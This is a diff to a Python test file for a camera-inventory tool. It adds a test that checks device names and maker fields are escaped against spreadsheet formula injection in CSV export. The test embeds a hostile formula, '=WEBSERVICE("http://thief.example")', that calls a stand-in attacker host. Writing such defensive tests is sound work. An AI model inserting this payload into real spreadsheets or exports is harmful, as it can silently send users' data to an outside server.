@@ -14,6 +14,7 @@ from workbench.cli import app
 from workbench.errors import BadInput
 from workbench.investigation import open_workbench
 from workbench.monitoring import inventory, open_monitoring
+from workbench.streams import onvif
 from workbench.ward import load
 
 BASE = (
@@ -212,3 +213,12 @@ def test_places_for_credentials_are_no_credentials(house, root, tmp_path):
         house, given(tmp_path, f"camera_id,stream_url\nS01-P1,{url[:-10]}hush\n")
     )
     assert "a name or a password" in plan.faults[0].sentence()
+
+
+def test_no_cell_of_a_strangers_table_is_a_formula(root, house, tmp_path):
+    hostile = '=WEBSERVICE("http://thief.example")'
+    shown = onvif.Profile("t", "main", "H264", 1920, 1080, 15, 0, "")
+    device = onvif.Device("10.0.0.9", "http://10.0.0.9/", hostile, maker="@x", profiles=(shown,))
+    (row,) = csv.DictReader(inventory.found_csv([inventory.Found(device, ("",), ())]).splitlines())
+    assert (row["name"], row["maker"], row["stream_url"]) == ("'" + hostile, "'@x", "")
+    assert row["remark"] == "no usable address of main"
